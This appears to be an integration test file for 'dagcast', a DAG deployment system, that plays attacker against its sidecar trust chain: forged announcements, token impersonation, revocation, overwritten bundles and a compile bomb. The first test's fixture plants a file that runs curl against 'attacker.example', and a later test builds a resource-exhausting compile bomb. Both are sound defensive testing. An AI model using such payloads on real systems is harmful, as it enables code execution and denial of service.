"""The trust chain on the embedded stack, tried as an attacker with each credential would.

A sidecar installs only what the API vouches for, and "live" means the exact version, sha256 and
deployment id a sidecar reported with its own credential. Each test is one way that broke before:
forged announcements, version numbers reused by a recreated stack, one sidecar's token acting as
another, a revoked token, viewers getting download URLs, limits the sidecars did not honour, a
stored bundle overwritten, and a compile bomb.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from helpers import (
    DAGCAST,
    Api,
    PlayedSidecar,
    aws,
    dag_source,
    files_of,
    metric,
    parse_json_stdout,
    run_dagcast,
    sidecar_pid,
    stack_env,
    until,
    version_of_link,
    write_dags,
)
from stack import local_stack

from chalicelib.bundle import write_bundle

pytestmark = pytest.mark.integration


def deploy(info: dict[str, Any], dags: Path, *args: str, deployment: str | None = None) -> subprocess.CompletedProcess[str]:
    env = stack_env(info, **({"DAGCAST_DEPLOYMENT": deployment} if deployment else {}))
    return run_dagcast(["deploy", "--dags", "--dags-path", str(dags), "--wait", "--json", *args], env)


def deployed(info: dict[str, Any], dags: Path, *args: str) -> dict[str, Any]:
    proc = deploy(info, dags, *args)
    assert proc.returncode == 0, proc.stderr
    doc = parse_json_stdout(proc)
    assert doc["state"] == "ACTIVE" and doc["converged"], doc
    return doc


def on_every_sidecar(info: dict[str, Any], dags: Path) -> bool:
    return all(files_of(Path(s["dags_path"]).resolve()) == files_of(dags) for s in info["sidecars"])


def topic_arn(info: dict[str, Any]) -> str:
    [arn] = [t["TopicArn"] for t in aws(info, "sns").list_topics()["Topics"] if t["TopicArn"].endswith("-versions")]
    return arn


def bucket_of(info: dict[str, Any]) -> str:
    [name] = [b["Name"] for b in aws(info, "s3").list_buckets()["Buckets"] if "bundles" in b["Name"]]
    return name


def bundle_of(folder: Path) -> bytes:
    buf = io.BytesIO()
    write_bundle(folder, sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()), buf)
    return buf.getvalue()


# --- 1. forged announcements -------------------------------------------------------------


def test_a_forged_announcement_is_never_installed_and_the_next_real_deploy_converges(
    stack: dict[str, Any], tmp_path: Path
) -> None:
    """Anyone who can publish to the topic and write to S3 announces a made-up v999: its own bundle,
    its own sha256, a working presigned URL, once unsigned and once signed with the attacker's own key."""
    from chalicelib.signing import FileSigner

    live = deployed(stack, write_dags(tmp_path / "live", {"live.py": dag_source("before_the_forgery")}), "--force")
    evil = write_dags(tmp_path / "evil", {"evil.py": "import os\nos.system('curl attacker.example')\n"})
    data = bundle_of(evil)
    s3, bucket, key = aws(stack, "s3"), bucket_of(stack), "uploads/evil.tar.gz"
    s3.put_object(Bucket=bucket, Key=key, Body=data)
    url = s3.generate_presigned_url("get_object", Params={"Bucket": bucket, "Key": key}, ExpiresIn=600)
    sha = hashlib.sha256(data).hexdigest()
    plain = {"deployment": stack["deployment"], "version": 999, "sha256": sha, "size": len(data), "download_url": url}
    uid = Api(stack).json("GET", f"/deployments/{stack['deployment']}")["uid"]  # any reader can know it
    statement = json.dumps({"type": "dagcast.version", "deployment": stack["deployment"], "version": 999, "sha256": sha,
                            "deployment_id": uid, "deploy_id": "evil", "size": len(data), "created_at": 0,
                            "key": key, "object_version": None, "limits": {}, "delta": None})
    own = FileSigner(tmp_path / "attacker.pem")
    signed = {**plain, "statement": statement, "signature": own.sign(statement.encode()), "key_id": own.key_id}
    probe = PlayedSidecar(Api(stack, token=stack["sidecar_token"]), stack["deployment"], "sidecar-key-probe")
    probe.deregister()
    impostor = {**signed, "key_id": probe.registration["signing_keys"][0]["key_id"]}  # the real key's id, a forged signature

    counted = [("unsigned", plain), ("unknown_key", signed), ("bad_signature", impostor)]
    before = {(s["name"], v): metric(s["metrics_url"], "dagcast_sidecar_announcements_total", f'result="{v}"')
              for s in stack["sidecars"] for v, _ in counted}
    sns = aws(stack, "sns")
    for _, message in counted:
        sns.publish(TopicArn=topic_arn(stack), Message=json.dumps(message),
                    MessageAttributes={"deployment": {"DataType": "String", "StringValue": stack["deployment"]}})
    for s in stack["sidecars"]:
        for verdict, _ in counted:
            until(lambda s=s, v=verdict: metric(s["metrics_url"], "dagcast_sidecar_announcements_total",
                                                f'result="{v}"') > before[(s["name"], v)],
                  what=f"{s['name']} counting the {verdict} announcement")
    for s in stack["sidecars"]:
        versions = Path(s["dags_path"]).parent / "versions"
        assert not list(versions.glob("999-*")), "the forged version is never on disk"
        assert version_of_link(s["dags_path"]) == live["version"]

    real = write_dags(tmp_path / "real", {"real.py": dag_source("after_the_forgery")})
    doc = deployed(stack, real)
    assert on_every_sidecar(stack, real), "the next real version is not blocked by the forged number"
    assert all(version_of_link(s["dags_path"]) == doc["version"] for s in stack["sidecars"])


# --- 2. version numbers are not identities ------------------------------------------------------


def test_a_recreated_stack_on_the_same_sidecars_goes_really_live_and_wait_tells_the_truth(tmp_path: Path) -> None:
    """The second stack numbers its versions from 1 again; its v1 must replace the first stack's v2."""
    state = tmp_path / "state"
    with local_stack(state) as first:
        for tag in ("one", "two"):
            deployed(first, write_dags(tmp_path / tag, {f"{tag}.py": dag_source(f"first_{tag}")}))
        old_uid = Api(first).json("GET", f"/deployments/{first['deployment']}")["uid"]
    shutil.rmtree(state / "aws", ignore_errors=True)  # what the stack kept: gone, as if it were recreated
    with local_stack(state) as second:
        api = Api(second)
        assert api.json("GET", f"/deployments/{second['deployment']}")["uid"] != old_uid
        listed = f"/deployments/{second['deployment']}/sidecars"
        until(lambda: [s["version"] for s in api.json("GET", listed)["items"]] == [2, 2],
              what="both sidecars reporting the first stack's v2 to the new stack")
        assert not any(s["on_current"] for s in api.json("GET", listed)["items"])
        fresh = write_dags(tmp_path / "fresh", {"fresh.py": dag_source("second_stack")})
        paused = sidecar_pid(second["sidecars"][1])
        os.kill(paused, signal.SIGSTOP)  # it still counts as live (its last heartbeat is recent) but cannot act
        try:
            held = deploy(second, fresh, "--timeout", "5")
            [latest] = api.json("GET", f"/deployments/{second['deployment']}/deploys?limit=1")["items"]
            view = api.json("GET", f"/deployments/{second['deployment']}/deploys/{latest['deploy_id']}")
        finally:
            os.kill(paused, signal.SIGCONT)
        assert held.returncode == 4, held.stderr
        assert (view["deploy"]["version"], view["converged"], view["sidecars_on_version"]) == (1, False, 1), \
            "a stopped sidecar still on the first stack's v2 is not on v1"
        proc = deploy(second, fresh, "--force")
        assert proc.returncode == 0, proc.stderr
        doc = parse_json_stdout(proc)
        assert (doc["version"], doc["converged"]) == (2, True)
        assert on_every_sidecar(second, fresh), "converged means the files are there, on every sidecar"
        assert {s["version"] for s in doc["sidecars"]} == {2}


# --- 3. a sidecar token acts only as the sidecars it registered -------------------------------


def test_a_sidecar_token_cannot_act_as_another_sidecar(stack: dict[str, Any]) -> None:
    d = stack["deployment"]
    sidecar_api = Api(stack, token=stack["sidecar_token"])
    target = stack["sidecars"][0]["name"]
    path = f"/deployments/{d}/sidecars/{target}"
    before = next(s for s in Api(stack).json("GET", f"/deployments/{d}/sidecars")["items"] if s["name"] == target)

    for secret in (None, "not-its-secret"):
        headers = {"X-Dagcast-Sidecar-Secret": secret} if secret else {}
        beat = sidecar_api.call("PUT", path, {"version": 1_000_000_000}, headers=headers)
        assert beat.status_code == 403 and "secret" in beat.json()["error"]["message"]
        gone = sidecar_api.call("DELETE", path, headers=headers)
        assert gone.status_code == 403
    again = sidecar_api.call("POST", f"/deployments/{d}/sidecars", {"name": target})
    assert again.status_code == 409 and "registered and live" in again.json()["error"]["message"]
    ghost = sidecar_api.call("POST", f"/deployments/{d}/sidecars", {"name": "ghost"})
    assert ghost.status_code == 403 and "sidecar-*" in ghost.json()["error"]["message"]

    after = next(s for s in Api(stack).json("GET", f"/deployments/{d}/sidecars")["items"] if s["name"] == target)
    assert after["version"] == before["version"] and after["sha256"] == before["sha256"]
    queues = aws(stack, "sqs").list_queues().get("QueueUrls", [])
    assert any(q.endswith(f"--{target}") for q in queues), "its queue is still there"


# --- 4. a revoked sidecar token gets no new versions ------------------------------------------------


def test_a_sidecar_whose_token_is_revoked_stops_receiving_new_versions(stack: dict[str, Any], tmp_path: Path) -> None:
    d, admin = stack["deployment"], Api(stack)
    secret = admin.json("POST", "/tokens", {"name": "revocable", "role": "sidecar", "deployments": [d],
                                            "sidecar_names": ["revocable"]})["token"]
    first = write_dags(tmp_path / "first", {"first.py": dag_source("before_revoke")})
    deployed(stack, first)
    root, link, port = tmp_path / "root", tmp_path / "dags", _free_port()
    env = stack_env(stack, DAGCAST_TOKEN=secret, AWS_ENDPOINT_URL=stack["aws_endpoint_url"], AWS_ACCESS_KEY_ID="testing",
                    AWS_SECRET_ACCESS_KEY="testing", AWS_DEFAULT_REGION="us-east-1")
    log = open(tmp_path / "revocable.log", "wb")
    proc = subprocess.Popen([*DAGCAST, "sidecar", "--name", "revocable", "--root", str(root), "--link", str(link),
                             "--resync-interval", "1", "--metrics-addr", f"127.0.0.1:{port}"], env=env, stdout=log,
                            stderr=subprocess.STDOUT)
    metrics = f"http://127.0.0.1:{port}"
    try:
        until(lambda: link.is_symlink() and files_of(link.resolve()) == files_of(first), what="the sidecar on the first version")
        accepted = metric(metrics, "dagcast_sidecar_announcements_total", 'result="accepted"')
        assert admin.call("DELETE", "/tokens/revocable").status_code == 200
        listed = admin.json("GET", f"/deployments/{d}/sidecars")["items"]
        assert "revocable" not in {s["name"] for s in listed}, "revoking the token removed its sidecar"
        assert not [q for q in aws(stack, "sqs").list_queues().get("QueueUrls", []) if q.endswith("--revocable")]

        errors = metric(metrics, "dagcast_sidecar_syncs_total", 'result="error"')
        second = write_dags(tmp_path / "second", {"second.py": dag_source("after_revoke")})
        doc = deployed(stack, second)
        until(lambda: metric(metrics, "dagcast_sidecar_syncs_total", 'result="error"') > errors,
              what="a reconcile of the revoked sidecar failing")
        assert files_of(link.resolve()) == files_of(first), "it keeps serving what it had"
        assert not list((root / "versions").glob(f"{doc['version']}-*"))
        assert metric(metrics, "dagcast_sidecar_announcements_total", 'result="accepted"') == accepted
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        log.close()


# --- 5. viewers never get download URLs -------------------------------------------------------------


def test_viewers_and_deployers_get_no_download_urls_and_sidecars_do(stack: dict[str, Any], tmp_path: Path) -> None:
    d, admin = stack["deployment"], Api(stack)
    deployed(stack, write_dags(tmp_path / "dags", {"v.py": dag_source("viewer_check")}), "--force")
    for role in ("viewer", "deployer", "sidecar"):
        token = admin.json("POST", "/tokens", {"name": f"url-{role}", "role": role, "deployments": [d]})["token"]
        for which in ("current", "1"):
            view = Api(stack, token=token).json("GET", f"/deployments/{d}/versions/{which}")
            if role == "sidecar":
                assert view["download_url"] and "X-Amz-Signature=" in view["download_url"]
            else:
                assert view["download_url"] is None and view["delta_url"] is None, (role, which)
                assert view["manifest_url"], "the file list is for every reader"


# --- 6. one set of limits ---------------------------------------------------------------------------


def test_limits_above_what_sidecars_support_are_refused_and_raised_ones_are_honoured(
    stack: dict[str, Any], tmp_path: Path
) -> None:
    d, admin = stack["deployment"], Api(stack)
    too_big = admin.call("PATCH", f"/deployments/{d}", {"limits": {"max_member_bytes": 2 * 1024**3}})
    assert too_big.status_code == 400 and "max_member_bytes" in too_big.json()["error"]["message"]
    too_long = admin.call("PATCH", f"/deployments/{d}", {"limits": {"max_path_bytes": 8192}})
    assert too_long.status_code == 400 and "max_path_bytes" in too_long.json()["error"]["message"]
    defaults = admin.json("GET", f"/deployments/{d}")["limits"]
    admin.json("PATCH", f"/deployments/{d}", {"limits": {**defaults, "max_member_bytes": 200 * 1024**2}})
    try:
        dags = write_dags(tmp_path / "big", {"etl.py": dag_source("big_asset"), "data/seed.bin": b"\0" * (101 * 1024**2)})
        doc = deployed(stack, dags, "--timeout", "60")
        assert doc["state"] == "ACTIVE"
        for s in stack["sidecars"]:  # every sidecar extracted a file over its own default per-file limit
            assert (Path(s["dags_path"]) / "data" / "seed.bin").stat().st_size == 101 * 1024**2
    finally:
        admin.json("PATCH", f"/deployments/{d}", {"limits": defaults})
    small = write_dags(tmp_path / "small", {"etl.py": dag_source("after_the_big_one")})
    deployed(stack, small)  # the big version leaves the sidecars' kept versions in a few deploys


# --- 7. stored bundles are immutable; late uploads are removed ---------------------------------------


def test_an_overwritten_bundle_is_never_served_and_a_rollback_to_it_serves_the_original(
    stack: dict[str, Any], tmp_path: Path
) -> None:
    d, admin = stack["deployment"], Api(stack)
    original = write_dags(tmp_path / "original", {"etl.py": dag_source("original_etl")})
    target = deployed(stack, original)
    s3, bucket = aws(stack, "s3"), bucket_of(stack)
    key = f"bundles/{d}/{target['deploy_id']}.tar.gz"
    evil = write_dags(tmp_path / "evil", {"etl.py": dag_source("overwritten_etl")})
    s3.put_object(Bucket=bucket, Key=key, Body=bundle_of(evil))  # S3 write access, after the deploy went live

    def current_object_sha() -> str:
        return hashlib.sha256(s3.get_object(Bucket=bucket, Key=key)["Body"].read()).hexdigest()

    until(lambda: current_object_sha() == target["sha256"], what="ingest removing the second write")
    deployed(stack, write_dags(tmp_path / "later", {"later.py": dag_source("later")}))
    rolled = admin.json("POST", f"/deployments/{d}/deploys/{target['deploy_id']}/rollback")
    until(lambda: all(version_of_link(s["dags_path"]) == rolled["version"] for s in stack["sidecars"]),
          what="every sidecar on the rollback")
    assert on_every_sidecar(stack, original)


def test_an_upload_after_its_deploy_was_cancelled_is_deleted_and_never_goes_live(
    stack: dict[str, Any], tmp_path: Path
) -> None:
    d, admin = stack["deployment"], Api(stack)
    data = bundle_of(write_dags(tmp_path / "late", {"late.py": dag_source("late_upload")}))
    created = admin.json("POST", f"/deployments/{d}/deploys", {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)})
    deploy_id, form = created["deploy"]["deploy_id"], created["upload"]
    cancelled = admin.json("POST", f"/deployments/{d}/deploys/{deploy_id}/cancel")
    assert cancelled["state"] == "CANCELLED"
    resp = httpx.post(form["url"], data=form["fields"], files={"file": ("bundle.tar.gz", data, "application/gzip")})
    assert resp.status_code < 300, resp.text  # moto enforces nothing; on AWS the form may still be valid too
    s3, bucket, key = aws(stack, "s3"), bucket_of(stack), created["deploy"]["key"]

    def gone() -> bool:
        versions = s3.list_object_versions(Bucket=bucket, Prefix=key)
        return not versions.get("Versions") and not versions.get("DeleteMarkers")

    until(gone, what="ingest deleting the late upload")
    assert admin.json("GET", f"/deployments/{d}/deploys/{deploy_id}")["deploy"]["state"] == "CANCELLED"


# --- 8. a compile bomb ---------------------------------------------------------------------------------


def test_a_compile_bomb_is_rejected_within_seconds_and_the_api_stays_responsive(stack: dict[str, Any], tmp_path: Path) -> None:
    """Three files of 9 MiB of `x=1` lines (a 28 KB upload): compiling them took 34 s and 2.7 GiB."""
    bomb = b"x=1\n" * (9 * 1024 * 1024 // 4)
    dags = write_dags(tmp_path / "bomb", {"etl.py": dag_source("bomb_neighbour"), **{f"bomb{i}.py": bomb for i in range(3)}})
    slowest: list[float] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            started = time.monotonic()
            httpx.get(stack["api_url"] + "/healthz", timeout=1.0).raise_for_status()  # a timeout fails the test
            slowest.append(time.monotonic() - started)
            stop.wait(0.05)

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    try:
        proc = deploy(stack, dags, "--skip-validation", "--timeout", "10")
    finally:
        stop.set()
        prober.join(timeout=5)
    assert proc.returncode == 3, proc.stderr
    doc = parse_json_stdout(proc)
    assert doc["state"] == "REJECTED"
    [error] = [e for e in doc["errors"] if e["code"] == "python_too_complex"]
    assert error["path"] in {"bomb0.py", "bomb1.py", "bomb2.py"} and "too complex to compile" in error["message"]
    assert slowest and len(slowest) > 3, "the API answered throughout"

    local = deploy(stack, dags, "--timeout", "10")  # the CLI's own check is bounded the same way
    assert local.returncode == 3 and "python_too_complex" in local.stdout


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])
